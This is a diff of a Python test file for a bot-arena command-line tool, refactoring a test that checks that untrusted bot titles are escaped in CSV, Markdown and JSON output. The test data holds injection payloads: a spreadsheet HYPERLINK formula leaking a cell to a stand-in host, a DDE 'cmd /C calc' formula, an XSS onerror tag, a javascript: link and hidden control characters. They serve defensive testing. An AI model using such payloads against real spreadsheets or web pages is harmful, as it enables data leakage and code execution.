@@ -20,6 +20,8 @@ from typer.testing import CliRunner
 
 from arena.__main__ import FIRST_STEPS, PANELS, Commands, app
 from arena.errors import StoreError
+from arena.intake.registry import as_row
+from arena.intake.source import read
 from arena.store import Store
 
 from .program import Arena
@@ -50,30 +52,28 @@ def test_only_tables_for_people_cut_a_bots_title_and_unknown_facts_are_left_out(
     assert "None" not in arena.run("db", "info")[0]  # no database yet: it has no size
 
 
-@pytest.mark.parametrize(
-    "title, cell, in_markdown",
-    [
-        ('=HYPERLINK("http://x.example/?"&A1)', '\'=HYPERLINK("http://x.example/?"&A1)', "=HYPERLINK("),
-        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", r"-2+3+cmd\|' /C"),
-        ("@SUM(1)", "'@SUM(1)", "@SUM(1)"),
-        ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>", r"\<img src"),
-        ("[go](javascript:x)", "[go](javascript:x)", r"\[go](javascript"),
-        (r"a \| b", r"a \| b", r"a \\\| b"),
-    ],
-)
-def test_no_text_of_a_stranger_is_a_formula_html_or_a_link(
-    arena: Arena, title: str, cell: str, in_markdown: str
-) -> None:
-    (arena.folder / "sly.py").write_text(
-        f"{title!r}\nGAMES = ['flip7']\n\n\ndef act(view):\n    return view.legal[0]\n"
-    )
-    arena.run(
-        "bot", "submit", "sly.py", "--owner", "ada", "--note", f"{title}\x9b\u202e", "--level", "trusted"
-    )
-    (row,) = (one for one in csv_of(arena, "bot", "list") if one["bot"].startswith("sly"))
-    assert row["title"] == cell
-    assert in_markdown in arena.run("bot", "list", "--format", "markdown")[0]
-    assert not {"\x9b", "\u202e"} & set(arena.run("bot", "show", "sly", "--format", "json")[0])
+SLY = [  # the title of a bot, the same as a cell of CSV, and a part of it in Markdown
+    ('=HYPERLINK("http://x.example/?"&A1)', '\'=HYPERLINK("http://x.example/?"&A1)', "=HYPERLINK("),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", r"-2+3+cmd\|' /C"),
+    ("@SUM(1)", "'@SUM(1)", "@SUM(1)"),
+    ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>", r"\<img src"),
+    ("[go](javascript:x)", "[go](javascript:x)", r"\[go](javascript"),
+    (r"a \| b", r"a \| b", r"a \\\| b"),
+]
+
+
+def test_no_text_of_a_stranger_is_a_formula_html_or_a_link(arena: Arena) -> None:
+    for at, (title, *_) in enumerate(SLY):
+        source = f"{title!r}\nGAMES = ['flip7']\n\n\ndef act(view):\n    return view.legal[0]\n"
+        (arena.folder / f"sly{at}.py").write_text(source)
+        sly = read(arena.folder / f"sly{at}.py")
+        row = as_row(sly, "submitted", "ada", f"{title}\x9b\u202e")
+        Store(str(arena.folder / "results" / "arena.db"), create=True).bots.add(row, sly.packed)
+    titles = {one["bot"].partition("@")[0]: one["title"] for one in csv_of(arena, "bot", "list")}
+    shown = arena.run("bot", "list", "--format", "markdown")[0]
+    for at, (_, cell, in_markdown) in enumerate(SLY):
+        assert titles[f"sly{at}"] == cell and in_markdown in shown
+        assert not {"\x9b", "\u202e"} & set(arena.run("bot", "show", f"sly{at}", "--format", "json")[0])
 
 
 def csv_of(arena: Arena, *words: str) -> list[dict[str, str]]:
@@ -279,7 +279,7 @@ def test_an_error_that_comes_of_ctrl_c_is_a_stop() -> None:
 
 
 def test_output_that_cannot_be_written_is_told_in_a_line_and_closed_output_is_no_error(arena: Arena) -> None:
-    program = f"{sys.executable} -m arena league list"
+    program = f"{sys.executable} -m arena games"
     words = {"cwd": arena.folder, "shell": True, "capture_output": True, "text": True, "timeout": 300}
     for command in (program, f"{program} --format json"):
         full: Any = subprocess.run(f"{command} > /dev/full", check=False, **words)
